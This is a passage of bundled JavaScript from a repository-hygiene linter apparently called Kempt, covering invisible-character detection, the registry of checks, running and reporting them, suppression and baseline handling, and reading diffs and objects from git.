        if (/\.(?:txt|rst|adoc|html?|po|csv|tsv)$/i.test(file.path) || !mayHide(file.buffer, file.length))
            return;
        for (let line = 0; line < file.lineStarts().length; line++) {
            const text = file.line(line);
            const match = zero_width_hidden.exec(line === 0 ? text.replace(/^\uFEFF/, ' ') : text);
            if (match === null)
                continue;
            const before = Buffer.byteLength(text.slice(0, match.index));
            report({
                message: `The invisible character ${zero_width_name(match[0])}`,
                at: { offset: file.lineStarts()[line] + before, length: Buffer.byteLength(match[0]) },
                snippet: text.replace(new RegExp(zero_width_hidden, 'gu'), (character) => `<${zero_width_name(character)}>`),
            });
        }
    },
});
/** E2 80 8B..8D and E2 81 A0 (zero-width), EF BB BF (mark), F3 A0 (tags), C2 AD (soft hyphen stays). */
function mayHide(buffer, length) {
    for (let i = 0; i + 2 < length; i++) {
        const byte = buffer[i];
        if (byte < 0xe2)
            continue;
        const next = buffer[i + 1];
        if (byte === 0xe2 && ((next === 0x80 && buffer[i + 2] <= 0x8d) || (next === 0x81 && buffer[i + 2] === 0xa0)))
            return true;
        if ((byte === 0xef && next === 0xbb && buffer[i + 2] === 0xbf) || (byte === 0xf3 && next === 0xa0))
            return true;
    }
    return false;
}
const joinerOutOfPlace = '(?<![\\p{L}\\p{M}\\p{Extended_Pictographic}\\u{FE0F}\\u{1F3FB}-\\u{1F3FF}])[\\u200C\\u200D]|(?<=[\\p{Script=Latin}])[\\u200C\\u200D]';
const zero_width_hidden = new RegExp(`[\\u200B\\u2060\\uFEFF]|[\\u{E0000}-\\u{E007F}](?<!\\u{1F3F4}[\\u{E0000}-\\u{E007F}]+)|${joinerOutOfPlace}`, 'u');
function zero_width_name(character) {
    return `U+${character.codePointAt(0).toString(16).toUpperCase().padStart(4, '0')}`;
}

;// CONCATENATED MODULE: ./lib/modules/checks/index.gen.js
// Generated by `npm run generate`.

































const checks = [
    bidirectionalControl,
    brokenSymlink,
    byteOrderMark,
    caseConflict,
    changeSize,
    codeownersChange,
    commitSubject,
    debugLeftover,
    destroyedSymlink,
    executableWithoutShebang,
    finalNewline,
    focusedTest,
    forbiddenFile,
    ignoredButTracked,
    largeFile,
    lockfileDrift,
    mergeConflict,
    mixedLineEndings,
    nonUtf8,
    shebangNotExecutable,
    skippedTest,
    submoduleDrift,
    suppressions,
    testsUntouched,
    todoWithoutIssue,
    trailingWhitespace,
    windowsName,
    workflowChange,
    workflowPermissions,
    workflowScriptInjection,
    workflowUnpinnedUses,
    workflowUntrustedCheckout,
    zeroWidth,
];

;// CONCATENATED MODULE: ./lib/pipeline/check/inputs.js


/**
 * Reads what the checks read beside the files they judge. `entries` is the tree; where it is but a part (of a change),
 * the folders above its files are asked for, in the commit `head` if there is one.
 */
async function readInputs(checks, snapshot, entries, part) {
    const names = new Set(checks.flatMap(({ check }) => check.reads ?? []));
    const inputs = new Map();
    if (names.size === 0)
        return inputs;
    const wanted = part ? above(entries, [...names], part.head) : entries.filter(({ path }) => names.has((0,domain_path/* baseName */.Fl)(path)));
    await snapshot.visit(wanted, {
        file: ({ path }, buffer, length) => {
            inputs.set(path, buffer.toString('utf8', 0, length));
            return undefined;
        },
        problem: () => undefined,
    });
    return inputs;
}
/** git takes `commit:path` wherever it takes an object id. */
function above(entries, names, head) {
    const folders = new Set(['']);
    for (const { path } of entries)
        for (let at = (0,domain_path/* dirName */.BB)(path); at !== ''; at = (0,domain_path/* dirName */.BB)(at))
            folders.add(at);
    return [...folders].flatMap((folder) => names.map((name) => {
        const path = folder === '' ? name : `${folder}/${name}`;
        return { path, mode: domain_entry/* Mode */.K.file, oid: head === undefined ? undefined : `${head}:${path}` };
    }));
}

// EXTERNAL MODULE: ./lib/domain/finding.js
var finding = __webpack_require__(9813);
// EXTERNAL MODULE: ./lib/domain/order.js
var order = __webpack_require__(3192);
// EXTERNAL MODULE: ./lib/pipeline/check/baseline.js
var baseline = __webpack_require__(1770);
// EXTERNAL MODULE: ./lib/pipeline/check/facts.js
var check_facts = __webpack_require__(8678);
;// CONCATENATED MODULE: ./lib/pipeline/check/tree.js



/** Text files of the tree that its checks read by name. */
const readable = /(?:^|\/)\.git(?:attributes|modules)$/;
/** Runs the checks over names, modes and links. */
async function judgeTree(input, checks) {
    const contents = checks.length === 0 ? new Map() : await readSmall(input);
    const byPath = new Map(contents);
    const tree = {
        entries: input.entries,
        candidates: input.candidates,
        linkTarget: (entry) => (entry.mode === domain_entry/* Mode */.K.symlink ? byPath.get(entry.path) : undefined),
        exists: (path) => input.snapshot.exists(external_node_path_.posix.normalize(path)),
        submoduleHead: input.submoduleHead,
        read: (path) => byPath.get(path),
        ignoredTracked: input.ignoredTracked,
    };
    const judged = { findings: [], notifications: [] };
    for (const selected of checks)
        await runAt(selected, (report) => selected.check.run(tree, report, selected.options), judged);
    return judged;
}
/** Targets of the links that are judged, and the git files that say what the tree means. */
async function readSmall({ snapshot, entries, candidates }) {
    const links = candidates.filter((entry) => entry.mode === domain_entry/* Mode */.K.symlink);
    const files = entries.filter((entry) => entry.mode !== domain_entry/* Mode */.K.symlink && readable.test(entry.path));
    const contents = new Map();
    await snapshot.visit([...links, ...files], {
        file: (entry, buffer, length) => {
            contents.set(entry.path, buffer.toString('utf8', 0, length));
            return undefined;
        },
        problem: () => undefined,
    });
    return contents;
}
/** Runs one check that names its paths; a check that throws makes the run incomplete. */
async function runAt({ check, level, excludes }, run, into) {
    const report = (path, draft) => {
        if (excludes(path))
            return;
        const { line, column = 1 } = draft;
        into.findings.push((0,finding/* buildFinding */.U)({
            rule: draft.rule === undefined ? check.id : `${check.id}/${draft.rule}`,
            level: level ?? draft.level ?? check.level,
            message: draft.message,
            path,
            subject: draft.snippet ?? '',
            snippet: draft.snippet,
            region: line === undefined ? undefined : lineRegion(line, column, draft.snippet ?? ''),
        }));
    };
    try {
        await run(report);
    }
    catch (error) {
        into.notifications.push({
            level: 'error',
            id: 'check-failed',
            message: `The check ${check.id} failed: ${error instanceof Object && 'stack' in error ? String(error.stack) : String(error)}`,
            remedy: 'Please report this as a bug of Kempt.',
        });
    }
}
function lineRegion(line, column, text) {
    return { startLine: line, startColumn: column, endLine: line, endColumn: Math.max(column, text.length + 1) };
}

;// CONCATENATED MODULE: ./lib/pipeline/check/change.js



/** Runs the checks of the change. */
async function judgeChange(set, snapshot, checks) {
    const judged = { findings: [], notifications: [] };
    if (set === undefined || checks.length === 0)
        return judged;
    const texts = await readTexts(set.files, snapshot);
    const change = {
        ...set,
        text: (file) => texts.get(file.path),
        has: (path) => snapshot.exists(path),
    };
    for (const selected of checks) {
        await runAt(selected, (report) => selected.check.run(change, report, selected.options), judged);
    }
    return judged;
}
async function readTexts(files, snapshot) {
    const texts = new Map();
    const heads = files.flatMap((file) => (file.head && (0,domain_entry/* isRegular */.$)(file.head) ? [file.head] : []));
    await snapshot.visit(heads, {
        file: (entry, buffer, length) => {
            if (!(0,check_facts/* isBinary */.Go)(buffer, length))
                texts.set(entry.path, buffer.toString('utf8', 0, length));
            return undefined;
        },
        problem: () => undefined,
    });
    return texts;
}

;// CONCATENATED MODULE: ./lib/pipeline/check/only-new.js
/**
 * Leaves out what the base already had. A finding is the same if rule and content are the same in the same file (or in
 * the file that it was renamed from), wherever the line has moved. Of several of equal content, those on changed
 * lines are the new ones.
 */
function subtractBase(head, base, changed) {
    const files = new Map(changed.map((file) => [file.path, file]));
    const known = new Map();
    for (const finding of base) {
        const key = keyOf(finding, finding.location.path);
        known.set(key, (known.get(key) ?? 0) + 1);
    }
    const fresh = new Set();
    for (const [key, group] of groupBy(head, (finding) => keyOf(finding, files.get(finding.location.path)?.base?.path))) {
        const added = group.length - (known.get(key) ?? 0);
        if (added <= 0)
            continue;
        const byChange = [...group].sort((a, b) => Number(isOnAddedLine(b, files)) - Number(isOnAddedLine(a, files)));
        for (const finding of byChange.slice(0, added))
            fresh.add(finding);
    }
    return head.filter((finding) => fresh.has(finding));
}
function keyOf(finding, path) {
    return `${path ?? ''}\0${finding.fingerprint}`;
}
function groupBy(items, key) {
    const groups = new Map();
    for (const item of items) {
        const group = groups.get(key(item));
        if (group)
            group.push(item);
        else
            groups.set(key(item), [item]);
    }
    return groups;
}
function isOnAddedLine(finding, files) {
    const line = finding.location.region?.startLine;
    const hunks = files.get(finding.location.path)?.hunks ?? [];
    return line !== undefined && hunks.some((hunk) => line >= hunk.headStart && line < hunk.headStart + hunk.headCount);
}

// EXTERNAL MODULE: ./lib/pipeline/check/scan.js + 2 modules
var scan = __webpack_require__(7867);
// EXTERNAL MODULE: ./lib/pipeline/check/selection.js
var selection = __webpack_require__(1607);
;// CONCATENATED MODULE: ./lib/pipeline/check/suppress.js


/** Sets apart what comments in the files suppress; a comment that suppresses nothing is itself a finding. */
function applySuppressions(findings, files, unused) {
    if (files.length === 0)
        return { findings, suppressed: [] };
    const byPath = new Map(files.map((file) => [file.path, file]));
    const used = new Set();
    const kept = [];
    const suppressed = [];
    for (const finding of findings) {
        const line = finding.location.region?.startLine;
        const comments = finding.rule.startsWith('suppressions/') ? [] : (byPath.get(finding.location.path)?.comments ?? []);
        const comment = comments.find((one) => (0,suppression/* covers */.h)(one, finding.rule, line === undefined ? undefined : line - 1));
        if (comment === undefined) {
            kept.push(finding);
        }
        else {
            used.add(comment);
            suppressed.push({ finding, suppression: { kind: 'inSource', justification: comment.reason } });
        }
    }
    if (unused)
        for (const file of files)
            kept.push(...unusedIn(file, used, unused.level, unused.ran));
    return { findings: kept, suppressed };
}
function unusedIn(file, used, level, ran) {
    const judged = file.comments.filter((comment) => !used.has(comment) && comment.rules.length > 0 && comment.rules.every((rule) => ran.has(rule.split('/')[0])));
    return judged.map((comment) => (0,finding/* buildFinding */.U)({
        rule: 'suppressions/unused',
        level,
        message: `Nothing here needs to be suppressed: ${comment.rules.join(', ')} found nothing`,
        path: file.path,
        region: file.region(comment),
        subject: comment.rules.join(','),
        snippet: `kempt-ignore ${comment.rules.join(', ')}: ${comment.reason}`,
    }));
}

;// CONCATENATED MODULE: ./lib/pipeline/check/run.js










/** Judges head and base alike, and reports what is new, not suppressed and not in the baseline. */
async function runChecks(input) {
    const head = await run_judge(input, input.tree, input.files, input.change);
    const fresh = await withoutBase(head.findings, input);
    const known = input.baseline ? (0,baseline/* applyBaseline */.Q)(fresh, input.baseline) : { findings: fresh, suppressed: [], stale: [] };
    return {
        ...head,
        findings: known.findings,
        suppressed: [...head.suppressed, ...known.suppressed],
        stale: known.stale,
        existing: head.findings.length - fresh.length,
    };
}
async function run_judge({ checks, inputs, scan: options }, tree, files, change) {
    const ofFiles = (0,selection/* ofScope */.W)(checks, 'file');
    const { findings, suppressions, notifications, ...counts } = await (0,scan/* scan */.z)(tree.snapshot, files, ofFiles, inputs, options);
    const ofTree = await judgeTree(tree, (0,selection/* ofScope */.W)(checks, 'tree'));
    const ofChange = await judgeChange(change, tree.snapshot, (0,selection/* ofScope */.W)(checks, 'change'));
    const all = [...findings, ...ofTree.findings, ...ofChange.findings].sort(order/* byPathAndLine */.Uo);
    const sorted = applySuppressions((0,finding/* numberSiblings */.b)(all), suppressions, unusedRule(checks));
    return {
        ...counts,
        ...sorted,
        notifications: [...notifications, ...ofTree.notifications, ...ofChange.notifications],
    };
}
/** Judges the base versions of those files that have findings now, and leaves out what they had already. */
async function withoutBase(findings, input) {
    const { change, base: open } = input;
    if (change === undefined || open === undefined || findings.length === 0)
        return findings;
    const paths = new Set(findings.map((finding) => finding.location.path));
    const entries = change.files.flatMap((file) => (file.base && paths.has(file.path) ? [file.base] : []));
    const tree = { ...noTree, snapshot: open(entries), entries, candidates: entries };
    const quiet = { ...input, scan: { everything: input.scan?.everything } };
    const base = await run_judge(quiet, tree, entries.filter(domain_entry/* isRegular */.$), undefined);
    return subtractBase(findings, base.findings, change.files);
}
const noTree = {
    submoduleHead: () => undefined,
    ignoredTracked: async () => [],
};
/**
 * Whether a suppression is unused can be told of rules over the content and the tree only: what a rule of the change
 * found depends on the change.
 */
function unusedRule(checks) {
    const own = checks.find(({ check }) => check.id === 'suppressions');
    if (!own)
        return undefined;
    const ran = new Set(checks.filter(({ check }) => check.scope !== 'change').map(({ check }) => check.id));
    return { level: own.level ?? own.check.level, ran };
}

// EXTERNAL MODULE: ./lib/domain/gate.js
var gate = __webpack_require__(1129);
;// CONCATENATED MODULE: ./lib/domain/report.js
const reportVersion = 1;
const reportSchemaUri = 'https://raw.githubusercontent.com/kempt/kempt/v1/schema/report.schema.json';

;// CONCATENATED MODULE: ./lib/app/report.js




/** Puts a report together. Pure but for the description of the environment. */
function toReport(scope, settings, outcome, history, timings) {
    const findings = [...outcome.findings, ...(history?.findings ?? [])].sort(order/* byPathAndLine */.Uo);
    const notifications = [
        ...outcome.notifications,
        ...(history?.notifications ?? []),
        ...outcome.unread.flatMap((file) => unreadNotice(file)),
        ...staleNotice(outcome.stale.length, settings.baseline),
    ];
    const runs = toRuns(scope, settings, findings);
    return {
        $schema: reportSchemaUri,
        version: reportVersion,
        tool: { name: 'kempt', version: version_gen/* version */.r },
        verdict: (0,gate/* toVerdict */.ds)(findings, notifications, settings.failOn),
        failOn: settings.failOn,
        scope: {
            kind: scope.kind,
            ...(scope.change && { base: scope.change.base }),
            ...(scope.change?.head !== undefined && { head: scope.change.head }),
            onlyNew: scope.change !== undefined && settings.onlyNew,
            files: outcome.files,
            bytes: outcome.bytes,
        },
        findings,
        suppressed: outcome.suppressed,
        rules: toRules(settings, [...findings, ...outcome.suppressed.map((one) => one.finding)]),
        runs,
        notExamined: toNotExamined(scope, outcome),
        notifications,
        existing: outcome.existing,
        timings,
        environment: { node: process.versions.node, platform: `${process.platform} ${process.arch}` },
    };
}
function toRuns(scope, settings, findings) {
    const counts = new Map();
    for (const { rule } of findings)
        counts.set(checkOf(rule), (counts.get(checkOf(rule)) ?? 0) + 1);
    const ran = settings.checks.map(({ check }) => {
        const reason = whyNot(check, scope);
        return { check: check.id, status: reason ? 'skipped' : 'ran', ...(reason && { reason }), findings: counts.get(check.id) ?? 0 };
    });
    const skipped = settings.skipped.map(({ check, reason }) => ({ check: check.id, status: 'skipped', reason, findings: 0 }));
    return [...ran, ...skipped].sort((a, b) => (a.check < b.check ? -1 : 1));
}
function whyNot(check, scope) {
    if (check.scope === 'change' && scope.change === undefined)
        return 'judges a change, and none was given';
    return undefined;
}
function checkOf(rule) {
    return rule.slice(0, rule.indexOf('/') < 0 ? rule.length : rule.indexOf('/'));
}
function toRules(settings, findings) {
    const levels = new Map(findings.map((finding) => [finding.rule, finding.level]));
    const checks = new Map(settings.checks.map(({ check }) => [check.id, check]));
    return [...levels.keys()].sort().flatMap((id) => {
        const check = checks.get(checkOf(id));
        if (check === undefined)
            return [];
        const { summary, docs, source } = check;
        return [{ id, level: levels.get(id), summary, help: docs, ...(source !== undefined && { helpUri: source }) }];
    });
}
const unreadNotices = {
    // A file that is deleted but still tracked is git's to tell; one that is too large is listed by its size.
    missing: undefined,
    'too-large': undefined,
    'not-a-file': ({ path }) => ({
        level: 'warning',
        id: 'not-a-file',
        message: `${path} is tracked as a file, but something else stands there`,
        path,
    }),
    unreadable: ({ path, detail }) => ({
        level: 'error',
        id: 'unreadable',
        message: `${path} could not be read: ${detail}`,
        remedy: 'Make it readable, or leave it out under files.exclude.',
        path,
    }),
};
function unreadNotice(file) {
    const notice = unreadNotices[file.problem]?.(file);
    return notice ? [notice] : [];
}
function staleNotice(stale, baseline) {
    if (stale === 0 || baseline === undefined)
        return [];
    const message = `${stale} ${stale === 1 ? 'entry' : 'entries'} of the baseline ${baseline} are no longer found`;
    return [{ level: 'note', id: 'stale-baseline', message, remedy: 'Shrink it: kempt check --update-baseline' }];
}
function toNotExamined(scope, outcome) {
    const { generated, vendored, fixture } = outcome.passedOver;
    const paths = (problem) => outcome.unread.filter((file) => file.problem === problem).map((file) => file.path);
    const counted = [
        { reason: 'larger than files.max-size: not read', files: paths('too-large').length, examples: paths('too-large') },
        { reason: 'deleted in the work tree', files: paths('missing').length, examples: paths('missing') },
        { reason: 'left out by the sparse checkout', files: scope.sparse, examples: [] },
        { reason: 'left out by files.include and files.exclude', files: scope.excluded, examples: [] },
        { reason: 'generated: only some checks looked at them', files: generated, examples: [] },
        { reason: 'vendored: only some checks looked at them', files: vendored, examples: [] },
        { reason: 'test data: only some checks looked at them', files: fixture, examples: [] },
    ];
    return counted.filter(({ files }) => files > 0).map((one) => ({ ...one, examples: one.examples.slice(0, 5) }));
}

;// CONCATENATED MODULE: ./lib/lib/git/diff.js

/** What makes `git diff` print what {@link parseDiff} reads; with `patch` also the hunks. */
function diffArgs(patch) {
    const output = patch ? ['--raw', '-p', '-U0'] : ['--raw'];
    return [...output, '-z', '--abbrev=40', '--full-index', '-M', '--no-ext-diff', '--no-textconv', '--no-color', '--ignore-submodules=dirty'];
}
const statuses = {
    A: 'added',
    C: 'copied',
    D: 'deleted',
    M: 'modified',
    R: 'renamed',
    T: 'type-changed',
    U: 'unmerged',
};
/** Parses `git diff --raw -z`, followed by the patch if there is one. */
function parseDiff(output) {
    const files = [];
    let at = 0;
    const field = () => {
        const end = output.indexOf(0, at);
        const part = output.subarray(at, end);
        at = end + 1;
        return part;
    };
    while (output[at] === 0x3a) {
        const [baseMode = '', headMode = '', baseOid, headOid, letters = ''] = field().toString('latin1', 1).split(' ');
        const status = statuses[letters[0] ?? ''] ?? 'modified';
        const first = (0,domain_path/* decodePath */.q0)(field());
        const second = status === 'renamed' || status === 'copied' ? (0,domain_path/* decodePath */.q0)(field()) : first;
        files.push({
            status,
            path: second.path,
            base: toEntry(first, baseMode, baseOid),
            head: toEntry(second, headMode, headOid),
            hunks: [],
        });
    }
    if (at < output.length)
        attachHunks(files, output.toString('utf8', at));
    return files.filter((file) => file.status !== 'unmerged');
}
function toEntry(path, mode, oid) {
    const bits = Number.parseInt(mode, 8);
    if (bits === 0)
        return undefined;
    // An id of zeros stands for content that is only in the work tree.
    return { ...path, mode: bits, oid: oid === undefined || /^0+$/.test(oid) ? undefined : oid };
}
const hunkHeader = /^@@ -(\d+)(?:,(\d+))? \+(\d+)(?:,(\d+))? @@/;
/**
 * The patch lists the files of the raw part in the same order; a change of type is listed as a deletion and an
 * addition. So files are told apart by their order, and no path of a patch need be parsed.
 */
function attachHunks(files, patch) {
    const listed = files.filter((file) => file.status !== 'unmerged');
    const sections = patch.split(/^diff --git /m).slice(1);
    let section = 0;
    for (const file of listed) {
        file.hunks = parseHunks(sections[section] ?? '');
        if (file.status === 'type-changed' && sections.length > listed.length)
            file.hunks = parseHunks(sections[++section] ?? '');
        section++;
    }
}
function parseHunks(section) {
    const hunks = [];
    for (const line of section.split('\n')) {
        const header = hunkHeader.exec(line);
        const last = hunks.at(-1);
        if (last && line.startsWith('+') && last.added.length < last.headCount) {
            last.added.push(line.slice(1).replace(/\r$/, ''));
        }
        else if (header) {
            const [baseStart, baseCount, headStart, headCount] = header.slice(1).map((part) => Number(part ?? 1));
            hunks.push({ baseStart: baseStart, baseCount: baseCount, headStart: headStart, headCount: headCount, added: [] });
        }
    }
    return hunks;
}

// EXTERNAL MODULE: ./lib/lib/git/git.js
var git = __webpack_require__(9280);
;// CONCATENATED MODULE: ./lib/lib/git/repository.js



/** Finds the repository that holds `cwd`, or opens `gitDir`; undefined if `cwd` is in none. */
function findRepository(cwd, gitDir) {
    if (gitDir !== undefined)
        return openGitDir((0,external_node_path_.resolve)(cwd, gitDir));
    const named = process.env['GIT_DIR'];
    if (named)
        return { ...openGitDir((0,external_node_path_.resolve)(named)), top: (0,external_node_path_.resolve)(process.env['GIT_WORK_TREE'] ?? cwd) };
    for (let dir = (0,external_node_path_.resolve)(cwd);; dir = (0,external_node_path_.dirname)(dir)) {
        const found = gitDirOf((0,external_node_path_.join)(dir, '.git'));
        if (found)
            return { gitDir: found, commonDir: commonDirOf(found), top: dir };
        if (isGitDir(dir))
            return { gitDir: dir, commonDir: commonDirOf(dir), top: undefined };
        if (dir === (0,external_node_path_.dirname)(dir))
            return undefined;
    }
}
function openGitDir(path) {
    const found = gitDirOf(path) ?? gitDirOf((0,external_node_path_.join)(path, '.git'));
    if (!found)
        throw new errors/* UserError */.y(`${path} is not a git directory`, 'Name a bare repository or a .git directory.');
    return { gitDir: found, commonDir: commonDirOf(found), top: undefined };
}
/** `.git` is a directory, or in linked work trees and submodules a file that names one. */
function gitDirOf(path) {
    const stat = (0,external_node_fs_.statSync)(path, { throwIfNoEntry: false });
    if (stat?.isDirectory())
        return isGitDir(path) ? path : undefined;
    if (!stat?.isFile())
        return undefined;
    const target = /^gitdir: (.+?)\r?\n?$/.exec((0,external_node_fs_.readFileSync)(path, 'utf8'))?.[1];
    return target === undefined ? undefined : (0,external_node_path_.resolve)((0,external_node_path_.dirname)(path), target);
}
function isGitDir(path) {
    return (0,external_node_fs_.existsSync)((0,external_node_path_.join)(path, 'HEAD')) && ((0,external_node_fs_.existsSync)((0,external_node_path_.join)(path, 'objects')) || (0,external_node_fs_.existsSync)((0,external_node_path_.join)(path, 'commondir')));
}
function commonDirOf(gitDir) {
    const file = (0,external_node_path_.join)(gitDir, 'commondir');
    return (0,external_node_fs_.existsSync)(file) ? (0,external_node_path_.resolve)(gitDir, (0,external_node_fs_.readFileSync)(file, 'utf8').trim()) : gitDir;
}
/** Whether history was cut off when cloning (`--depth`). */
function isShallow(repository) {
    return (0,external_node_fs_.existsSync)((0,external_node_path_.join)(repository.commonDir, 'shallow'));
}

;// CONCATENATED MODULE: ./lib/lib/git/changes.js




/** Reads a change from git. `patch`: with its hunks. */
async function loadChangeSet(repository, request, patch) {
    if (request.kind === 'staged')
        return await loadStaged(repository, patch);
    if (request.kind === 'work-tree') {
        const base = await mergeBase(repository, request.ref ?? (await defaultBranch(repository)), 'HEAD');
        const output = await (0,git/* git */.$Y)(repository, ['diff', ...diffArgs(patch), base, '--']);
        return { base, files: parseDiff(output), subjects: [] };
    }
    const { base, head } = request;
    for (const rev of [base, head])
        refuseOption(rev);
    try {
        const output = await (0,git/* git */.$Y)(repository, ['diff', ...diffArgs(patch), `${base}...${head}`, '--']);
        return { base, head, files: parseDiff(output), subjects: [] };
    }
    catch (error) {
        throw explain(error, repository, base, head);
    }
}
async function loadStaged(repository, patch) {
    const output = await (0,git/* git */.$Y)(repository, ['diff', '--cached', ...diffArgs(patch), '--']);
    return { base: 'HEAD', files: parseDiff(output), subjects: [] };
}
/** The commit at which `head` left `ref`. */
async function mergeBase(repository, ref, head) {
    refuseOption(ref);
    try {
        return (await (0,git/* git */.$Y)(repository, ['merge-base', ref, head])).toString('latin1').trim();
    }
    catch (error) {
        throw explain(error, repository, ref, head);
    }
}
/** The subject lines of the commits of a change, newest first. */
async function loadSubjects(repository, base, head) {
    const output = await (0,git/* git */.$Y)(repository, ['log', '--format=%H%x00%s', `${base}..${head}`, '--']);
    const lines = output.toString('utf8').split('\n').filter(Boolean);
    return lines.map((line) => ({ commit: line.slice(0, line.indexOf('\0')), subject: line.slice(line.indexOf('\0') + 1) }));
}
const candidates = ['origin/HEAD', 'origin/main', 'origin/master', 'main', 'master'];
async function defaultBranch(repository) {
    for (const ref of candidates) {
        try {
            await (0,git/* git */.$Y)(repository, ['rev-parse', '--verify', '--quiet', `${ref}^{commit}`]);
            return ref;
        }
        catch (error) {
            if (!(error instanceof errors/* UpstreamError */.g) || error.status === undefined)
                throw error;
        }
    }
    throw new errors/* UserError */.y('There is no default branch to compare with', 'Name one: --changed=REF');
}
function refuseOption(rev) {
    if (rev.startsWith('-') || rev === '')
        throw new errors/* UserError */.y(`${JSON.stringify(rev)} is not a revision`);
}
function explain(error, repository, base, head) {
    if (!(error instanceof errors/* UpstreamError */.g) || error.status === undefined)
        return error;
    const unknown = /bad revision|unknown revision|Not a valid object name|ambiguous argument/i.test(error.message);
    if (!unknown && !/no merge base|ended with status 1/.test(error.message))
        return error;
    if (isShallow(repository)) {
        return new errors/* UserError */.y(`This clone is shallow: the commits between ${base} and ${head} are not all here`, 'Fetch them: git fetch --unshallow, or with actions/checkout: fetch-depth: 0', { cause: error });
    }
    if (unknown)
        return new errors/* UserError */.y(`git does not know the revision ${base} or ${head}`, 'Fetch it first.', { cause: error });
    return new errors/* UserError */.y(`${base} and ${head} have no common ancestor`, 'Name a base on the same history.', { cause: error });
}

// EXTERNAL MODULE: ./lib/lib/git/index-file.js
var index_file = __webpack_require__(9707);
// EXTERNAL MODULE: external "node:events"
var external_node_events_ = __webpack_require__(8474);
// EXTERNAL MODULE: external "node:util/types"
var types_ = __webpack_require__(3429);
;// CONCATENATED MODULE: ./lib/lib/git/objects.js




/**
 * Streams the contents of `oids` in their order, by one `git cat-file --batch`. Contents above `limit` bytes are
 * passed over (`bytes` is undefined, `size` is right).
 */
async function* readObjects(repository, oids, limit) {
    if (oids.length === 0)
        return;
    const child = (0,git/* startGit */.BE)(repository, ['cat-file', '--batch', '--buffer']);
    const failed = (0,external_node_events_.once)(child, 'error').then(([cause]) => {
        throw new errors/* UpstreamError */.g('git cat-file', (0,types_.isNativeError)(cause) ? cause.message : 'git did not start', { cause });
    });
    failed.catch(() => undefined);
    child.stdin?.on('error', () => undefined);
    child.stdin?.end(`${oids.join('\n')}\n`);
    try {
        const chunks = new ChunkReader(child.stdout, failed);
        for (const oid of oids) {
            const header = await chunks.line();
            const size = Number(/^\S+ \S+ (\d+)$/.exec(header)?.[1] ?? -1);
            if (size < 0)
                yield { oid, bytes: undefined, size: 0 };
            else if (size > limit)
                yield { oid, bytes: await chunks.skip(size + 1), size };
            else
                yield { oid, bytes: (await chunks.take(size + 1)).subarray(0, size), size };
        }
    }
    finally {
        child.kill();
    }
}
/** Takes lines and counted bytes from a stream of chunks. */
class ChunkReader {
    #chunks;
    #failed;
    #rest = Buffer.alloc(0);
    constructor(chunks, failed) {
        this.#chunks = chunks[Symbol.asyncIterator]();
        this.#failed = failed;
    }
    async #next() {
        const next = await Promise.race([this.#chunks.next(), this.#failed]);
        if (next.done)
            throw new errors/* UpstreamError */.g('git cat-file', 'git cat-file ended early');
        return next.value;
    }
    async line() {
        let end = this.#rest.indexOf(10);
        while (end < 0) {
            this.#rest = Buffer.concat([this.#rest, await this.#next()]);
            end = this.#rest.indexOf(10);
        }
        const line = this.#rest.toString('latin1', 0, end);
        this.#rest = this.#rest.subarray(end + 1);
        return line;
    }
    async take(count) {
        const parts = [this.#rest];
        let have = this.#rest.length;
        while (have < count) {
            const chunk = await this.#next();
            parts.push(chunk);
            have += chunk.length;
        }
        const all = parts.length === 1 ? this.#rest : Buffer.concat(parts);
        this.#rest = all.subarray(count);
        return all.subarray(0, count);
    }
    async skip(count) {
        let left = count - this.#rest.length;
        this.#rest = left < 0 ? this.#rest.subarray(count) : Buffer.alloc(0);
        while (left > 0) {
            const chunk = await this.#next();
            if (chunk.length > left)
                this.#rest = chunk.subarray(left);
            left -= chunk.length;
        }
        return undefined;
    }
}

;// CONCATENATED MODULE: ./lib/lib/snapshots/git-tree.js



/** A state of the repository read from its objects: a commit, the index, or a bare repository. */
class GitTree {
    entries;
    #repository;
    #limit;
    #known;
    /** `known` tells whether the whole tree has a path, where `entries` is but a part of it. */
    constructor(repository, entries, limit, known) {
        this.#repository = repository;
        this.entries = entries;
        this.#limit = limit;
        const paths = known ? undefined : pathsAndFolders(entries);
        this.#known = known ?? ((path) => paths?.has(path) ?? false);
    }
    async visit(entries, visitor) {
        const wanted = [...entries].filter((entry) => entry.mode !== domain_entry/* Mode */.K.submodule && entry.oid !== undefined);
        let next = 0;
        for await (const object of readObjects(this.#repository, wanted.map((entry) => entry.oid), this.#limit)) {
            const entry = wanted[next++];
            entry.size = object.size;
            if (object.bytes)
                await visitor.file(entry, object.bytes, object.size);
            else if (object.size > this.#limit)
                visitor.problem(entry, 'too-large', `${object.size} bytes`);
            else
                visitor.problem(entry, 'unreadable', `object ${object.oid} is not in the repository`);
        }
    }
    exists(path) {
        return this.#known(external_node_path_.posix.normalize(path).replace(/\/$/, ''));
    }
}
function pathsAndFolders(entries) {
    const paths = new Set(['.']);
    for (const { path } of entries) {
        for (let part = path; part !== '' && !paths.has(part); part = part.slice(0, Math.max(0, part.lastIndexOf('/')))) {
            paths.add(part);
        }
    }
    return paths;
}

// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(7598);
;// CONCATENATED MODULE: ./lib/lib/snapshots/verified-tree.js


/**
 * A commit or the index, read from the work tree wherever that has the very same content: reading a file and hashing it
 * is cheaper than asking git for the object, and no index need be trusted. What differs comes from the objects.
 */
class VerifiedTree {
    entries;
    #disk;
    #objects;
    constructor(disk, objects) {
        this.entries = objects.entries;
        this.#disk = disk;
        this.#objects = objects;
    }
    async visit(entries, visitor) {
        const others = [];
        for (const entry of entries) {
            let verified = false;
            await this.#disk.read(entry, {
                file: (_, buffer, length) => {
                    verified = (0,domain_entry/* isRegular */.$)(entry) && blobId(buffer, length) === entry.oid;
                    return verified ? visitor.file(entry, buffer, length) : undefined;
                },
                problem: () => undefined,
            });
            if (!verified)
                others.push(entry);
        }
        if (others.length > 0)
            await this.#objects.visit(others, visitor);
    }
    exists(path) {
        return this.#objects.exists(path);
    }
}
/** The id git gives to this content. */
function blobId(buffer, length) {
    return (0,external_node_crypto_.createHash)('sha1').update(`blob ${length}\0`).update(buffer.subarray(0, length)).digest('hex');
}

;// CONCATENATED MODULE: ./lib/lib/snapshots/work-tree.js



/** Without following a link that replaced the file, and without waiting for a pipe that did. */
const flags = external_node_fs_.constants.O_RDONLY | (external_node_fs_.constants.O_NOFOLLOW ?? 0) | (external_node_fs_.constants.O_NONBLOCK ?? 0);
const problems = {
    ENOENT: 'missing',
    ENOTDIR: 'missing',
    ELOOP: 'not-a-file',
    EISDIR: 'not-a-file',
    ENXIO: 'not-a-file',
